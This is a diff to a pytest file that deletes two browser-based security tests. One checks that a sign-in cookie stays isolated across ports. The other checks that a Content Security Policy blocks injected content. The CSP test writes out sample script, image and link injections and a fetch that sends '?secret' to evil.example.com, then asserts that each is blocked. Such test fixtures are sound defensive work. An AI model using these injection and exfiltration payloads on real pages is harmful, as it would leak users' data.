@@ -12,10 +12,6 @@ import pytest
 
 from tests.flows.house import LivingHome
 from tests.promises import promise
-from tests.web.browser import CHROMIUM, chromium
-from tests.web.neighbour import neighbour
-
-needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here; install it to test the page")
 
 
 @pytest.fixture
@@ -117,59 +113,3 @@ def test_one_caller_that_dawdles_keeps_nobody_else_waiting(house: LivingHome, vi
     assert house.get("/status")["version"]
     for dawdler in dawdlers:
         dawdler.close()
-
-
-@needs_chromium
-@promise("SEC-9.sign-in", "SEC-9.cookie")
-async def test_the_cookie_of_a_link_is_never_seen_by_a_server_on_another_port(
-    house: LivingHome, visitor: Visitor
-) -> None:
-    link = house.cli("open", "--print").stdout.strip()
-    async with chromium() as browser, neighbour() as other:
-        page = await browser.page()
-        await page.goto(link)
-        await page.until("document.querySelector('#pill').textContent === 'live'")
-        assert await page.run("location.href") == f"http://{visitor.page}/"
-        (cookie,) = (await page.send("Network.getCookies", urls=[f"http://{visitor.page}"]))["cookies"]
-        for host in ("127.0.0.1", "localhost", "preview-77.localhost", "127.0.0.1"):
-            await page.goto(f"http://{host}:{other.port}/")
-            await page.run("fetch('/again', {credentials: 'include'}).then(r => r.text())")
-        assert any(b"own=1" in request for request in other.requests)
-        assert not any(cookie["value"].encode() in request for request in other.requests)
-        used = await browser.page()
-        await used.send("Network.clearBrowserCookies")
-        await used.goto(link)
-        await used.until("document.body.innerText.includes('was used')")
-
-
-@needs_chromium
-@promise("SEC-9.csp")
-async def test_the_page_runs_nothing_that_was_not_shipped_with_it(house: LivingHome) -> None:
-    link = house.cli("open", "--print").stdout.strip()
-    async with chromium() as browser:
-        page = await browser.page()
-        await page.goto(link)
-        await page.until("document.querySelector('#pill').textContent === 'live'")
-        assert page.errors == []
-        inject = """(tag, set) => new Promise((done) => {
-            const element = document.createElement(tag);
-            element.onload = () => done('loaded');
-            element.onerror = () => done('blocked');
-            set(element);
-            document.body.append(element);
-            setTimeout(() => done(window.ran ? 'ran' : 'blocked'), 300);
-        })"""
-        for tag, set_it in (
-            ("script", "(e) => { e.textContent = 'window.ran = true' }"),
-            ("script", "(e) => { e.src = 'http://cdn.example.com/x.js' }"),
-            ("img", "(e) => { e.src = 'http://pixel.example.com/x.png?secret' }"),
-            ("link", "(e) => { e.rel = 'stylesheet'; e.href = 'http://cdn.example.com/x.css' }"),
-            ("iframe", "(e) => { e.src = 'http://frame.example.com/' }"),
-        ):
-            result = await page.run(f"({inject})({tag!r}, {set_it})")
-            ran = await page.run("window.ran === true")
-            assert not ran, (tag, set_it)
-            assert result == "blocked" or tag == "iframe", (tag, result)
-        leak = "fetch('http://evil.example.com/?secret').then(() => 'sent', () => 'blocked')"
-        assert await page.run(leak) == "blocked"
-        assert sum("Content Security Policy" in error for error in page.errors) >= 5
